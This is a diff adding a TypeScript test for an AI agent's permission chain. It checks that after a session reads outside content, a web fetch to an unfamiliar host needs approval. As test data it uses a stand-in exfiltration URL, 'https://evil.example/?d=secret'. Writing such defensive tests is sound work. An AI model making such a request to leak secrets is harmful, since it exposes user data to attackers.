@@ -327,6 +327,29 @@ describe('the chain and outside tools', () => {
     expect(guarded.verdict).toBe('deny');
     expect(EXEMPT_TOOLS.has('load_tool')).toBe(true);
   });
+
+  it('an allowed outside tool given a URL to a host nobody named asks once the session read outside content', async () => {
+    const chain = permissionChain({
+      workspace: '/w',
+      grants: noGrants,
+      outside: (tool) => policy(tool, true),
+    });
+    const tainted = { tainted: true, knownHosts: new Set(['docs.example']) };
+    const call = (url: string, egress = tainted) => ({
+      sessionId: 's',
+      tool: 'web__fetch',
+      args: { url, note: 'notes.txt' },
+      egress,
+    });
+    expect(await chain.judge(call('https://evil.example/?d=secret'))).toMatchObject({
+      verdict: 'ask',
+      layer: 'egress',
+      grant: { kind: 'hosts', hosts: ['evil.example'] },
+    });
+    expect(await chain.judge(call('https://docs.example/page'))).toMatchObject({ verdict: 'allow' });
+    const clean = { tainted: false, knownHosts: new Set<string>() };
+    expect(await chain.judge(call('https://evil.example/', clean))).toMatchObject({ verdict: 'allow' });
+  });
 });
 
 let nextId = 1;
